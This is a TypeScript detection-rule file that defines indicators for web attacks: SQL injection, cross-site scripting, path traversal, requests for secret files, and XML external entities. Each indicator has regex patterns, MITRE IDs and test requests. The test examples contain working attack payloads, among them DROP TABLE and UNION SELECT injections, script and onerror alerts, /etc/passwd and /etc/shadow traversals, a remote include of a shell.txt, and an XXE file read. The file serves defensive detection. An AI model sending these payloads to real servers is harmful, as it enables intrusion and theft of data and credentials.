import type { Indicator } from "../../indicator.ts";
import { requested } from "../execution/examples.ts";
import { requests } from "./web-request.ts";

/** Web requests that try to read or change data they should not. */

const web = {
  tactic: "initial-access",
  technique: "T1190",
  platforms: ["Linux", "Containers"],
  families: ["plugin", "syscall"],
} as const;

export const webSqlInjection: Indicator = {
  ...web,
  id: "web-sql-injection",
  behaviour: "plants SQL in the request",
  meaning: "Where it reaches the database, the visitor reads or changes everything in it, and sometimes runs commands.",
  severity: "high",
  certainty: "likely",
  source: "https://owasp.org/www-community/attacks/SQL_Injection",
  match: requests([
    /\bunion ?(?:all ?|distinct ?)?\(? ?select\b/,
    /['"`)] ?(?:or|and|xor|\|\||&&) ?(?:not )?['"(]? ?[\w@'"(]{1,20}['"]? ?(?:=|<|>|like|is|in|between|regexp)/,
    /\b(?:or|and) \(?['"]?(\w{1,10})['"]? ?(?:=|like) ?['"]?\1\b/,
    /\b(?:sleep|benchmark|pg_sleep|extractvalue|updatexml|load_file|group_concat|xp_cmdshell|dbms_pipe\.receive_message|utl_http\.request|utl_inaddr|randomblob|xmltype|exp\(~|gtid_subset|json_keys)\(/,
    /waitfor delay|information_schema|sqlite_master|pg_catalog|sysobjects|into (?:out|dump)file|\bprocedure analyse|@@version|xp_cmdshell|sp_password|all_tables/,
    /['"0-9)] ?; ?(?:select|insert|update|delete|drop|alter|create|exec|declare|shutdown|truncate|copy)\b/,
    /\b(?:drop|truncate|alter) (?:table|database)\b|\bdelete from \w+|\binsert into \w+ ?(?:\(|values)|\bselect\b[^\n]{1,80}\bfrom\b ?[\w(]/,
    /(?:\w|'|"|\)) ?(?:'|") ?(?:--|#|;)|'\)?\)? ?(?:--|#)(?: |-|$|\+)|\d ?--(?: |$)|^[^?]{0,80}\?[^=]{1,40}='$/,
    /\border by \d{1,3}(?: ?--| ?#|$)|\bhaving \d ?= ?\d|\bgroup by [\w.]+ having|\bcase when\b[^\n]{1,60}\bthen\b|\bif\(\d=\d|\bchar\(\d{2,3}[,)]|\bconcat\(|0x[0-9a-f]{8,}/,
    /\bcast\([^\n]{1,60} as (?:int|char|numeric)|\bconvert\(int,|\bascii\(|\bsubstr(?:ing)?\((?:\(|@@|version|user|database|password)/,
  ]),
  examples: {
    found: [
      requested("/?id=1%27%20OR%20%271%27%3D%271"),
      requested("/?q='uNiOn%20SeLeCt%20NuLl,version()--"),
      requested("/?id=1%20UNION/**/SELECT%201,2"),
      requested("/?id=1;DROP%20TABLE%20users"),
      requested("/?id=1'%20AND%20SLEEP(5)--%20"),
      requested("/login?user=admin'--"),
      requested("/?id=1/*!50000UNION*//*!50000SELECT*/1"),
    ],
    ignored: [
      requested("/search?q=student+union+selection"),
      requested("/?name=O%27Brien"),
      requested("/?q=black+or+white"),
      requested("/blog/select-from-our-menu"),
      requested("/order?by=date"),
    ],
  },
};

export const webCrossSiteScripting: Indicator = {
  ...web,
  id: "web-cross-site-scripting",
  behaviour: "plants script code in the request for other visitors' browsers",
  meaning: "The code runs in the browser of whoever sees the page, with that person's session.",
  alsoTechniques: ["T1189", "T1059.007"],
  severity: "medium",
  certainty: "likely",
  source: "https://owasp.org/www-community/attacks/xss/",
  match: requests([
    /< ?\/? ?script\b/,
    /<[a-z][^<>]{0,200}[ /"'\n]on[a-z]{3,24} ?=/,
    /["' /]on(?:error|load|click|focus|mouseover|toggle|begin|start|animationstart|pageshow|submit|input|blur|auxclick|pointer\w+) ?= ?["']?[a-z([]/,
    /(?:java|vb|live) ?script ?:/,
    /<(?:svg|iframe|object|embed|applet|meta|base|marquee|isindex|math|details|video|audio|body|form|link|style|img|input)\b[^<]{0,200}(?:on\w+ ?=|src ?=|href ?=|data ?=|http-equiv|formaction|style ?=|\/onload)/,
    /\b(?:alert|prompt|confirm)(?:\(|`)|document\.(?:cookie|domain|location|write)|window\.(?:location|name)|\beval\((?:atob|string|name|location)|string\.fromcharcode|expression\(|srcdoc ?=|data:text\/html|innerhtml/,
  ]),
  examples: {
    found: [
      requested("/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
      requested("/?q=<img src=x onerror=alert(1)>"),
      requested("/?u=java%0ascript:alert(1)".replace("%0a", "")),
      requested("/?q=%253Csvg%2520onload%253Dprompt(1)%253E"),
      requested('/?q="onfocus=alert(1) autofocus'),
    ],
    ignored: [
      requested("/docs/javascript/intro"),
      requested("/?q=fire+alert+system"),
      requested("/scripts/app.js?online=1"),
      requested("/?onboarding=yes"),
    ],
  },
};

export const webPathTraversal: Indicator = {
  ...web,
  id: "web-path-traversal",
  behaviour: "asks for a file outside the web folder, or makes the application include one",
  meaning: "What the web server may read (settings, keys, accounts), the visitor then reads too.",
  alsoTechniques: ["T1083", "T1552.001"],
  severity: "high",
  certainty: "likely",
  source: "https://owasp.org/www-community/attacks/Path_Traversal",
  match: requests([
    /(?:\.\.(?:[;/\\]|\.\/){1,4}){2,}[\w./\\-]{0,80}/,
    /\.\.[;/\\]{1,3}(?:etc|proc|var|windows|winnt|boot\.ini|root|home|usr|web-inf|conf)[\w./\\-]{0,80}/,
    /[=/?]\.{2,4}[/\\;]{1,3}[\w.-]{0,40}/,
    /(?:php|expect|phar|zip|glob|ogg|compress\.zlib|data|input|filter|file|gopher|dict|ldap|netdoc|jar):\/\//,
    /\/(?:etc\/(?:passwd|shadow|hosts|group|issue|crontab|ssh\/|nginx\/|apache2?\/|mysql\/|resolv\.conf|sudoers)|proc\/(?:self|\d+|version|cpuinfo)|var\/log\/(?:apache|nginx|auth|httpd|syslog|messages))[\w./-]{0,60}/,
    /c:[\\/]{1,2}(?:windows|winnt|boot\.ini|inetpub)|win\.ini|boot\.ini|\/web-inf\//,
    /[?&][\w-]{1,30}=(?:https?|ftp):\/\/[^\s&]{1,120}\.(?:txt|php|php\d|sh|jsp|asp)\b/,
  ]),
  examples: {
    found: [
      requested("/?file=../../../../etc/passwd"),
      requested("/?q=..%3B%2Fetc%2Fpasswd"),
      requested("/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd"),
      requested("/?page=php://filter/convert.base64-encode/resource=index"),
      requested("/?q=/etc/shadow"),
      requested("/?f=..%c0%af..%c0%afetc/passwd"),
      requested("/?page=http://203.0.113.9/shell.txt"),
    ],
    ignored: [
      requested("/static/../app.css".replace("../", "")),
      requested("/docs/etc/password-policy"),
      requested("/?next=https://example.com/account"),
      requested("/a..b/c"),
    ],
  },
};

export const webSensitiveFileRequest: Indicator = {
  ...web,
  id: "web-sensitive-file-request",
  behaviour: "asks the web server for a file that holds secrets",
  meaning: "Scanners look for such files on every server; where one is answered, credentials are gone.",
  alsoTechniques: ["T1552.001", "T1083"],
  severity: "medium",
  certainty: "likely",
  source:
    "https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/02-Configuration_and_Deployment_Management_Testing/04-Review_Old_Backup_and_Unreferenced_Files_for_Sensitive_Information",
  match: requests([
    /\/\.(?:env|git\/(?:config|head|index)|git-credentials|svn\/|hg\/|ssh\/|aws\/|docker\/|kube\/|npmrc|htpasswd|htaccess|bash_history|ds_store|vscode\/|idea\/|netrc|pgpass|s3cfg|dockercfg)[\w.-]*/,
    /\/(?:wp-config\.php(?:[\w.~-]+)|wp-config\.(?:bak|old|txt)|web\.config|id_(?:rsa|dsa|ecdsa|ed25519)|phpinfo\.php|info\.php|server-status|actuator\/(?:env|heapdump|dump|trace|logfile|configprops|mappings)|debug\/pprof|console\/login|adminer\.php|backup\.(?:sql|zip|tar\.gz|tgz)|dump\.sql|database\.sql|config\.(?:json|ya?ml|php)\.bak|credentials(?:\.json|\.xml)?$|elmah\.axd|trace\.axd|docker-compose\.ya?ml|\.well-known\/\.\.)/,
  ]),
  examples: {
    found: [
      requested("/.env"),
      requested("/.git/config"),
      requested("/?q=%2F.ssh%2Fid_rsa"),
      requested("/actuator/heapdump"),
      requested("/backup.sql"),
    ],
    ignored: [
      requested("/.well-known/acme-challenge/x1"),
      requested("/environment"),
      requested("/git/config-guide"),
      requested("/actuator/health"),
    ],
  },
};

export const webXmlExternalEntity: Indicator = {
  ...web,
  id: "web-xml-external-entity",
  behaviour: "sends XML that makes the parser read files or addresses (XXE)",
  meaning: "A careless parser hands the visitor the server's files, or floods its memory.",
  severity: "high",
  certainty: "likely",
  source: "https://owasp.org/www-community/vulnerabilities/XML_External_Entity_(XXE)_Processing",
  match: requests([
    /<!entity\b[^\n]{0,120}/,
    /<!doctype [^>]{1,60}\[/,
    /<!doctype [^>]{1,60}\bsystem\b/,
    /<xi:include\b/,
    /\bsystem ["'](?:file|https?|ftp|expect|php|jar|netdoc):/,
  ]),
  examples: {
    found: [
      requested("/?x=%3C!DOCTYPE%20a%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E"),
      requested('/?q=<!ENTITY lol "lol">'),
    ],
    ignored: [requested("/?q=%3C!DOCTYPE%20html%3E"), requested("/entity/42")],
  },
};
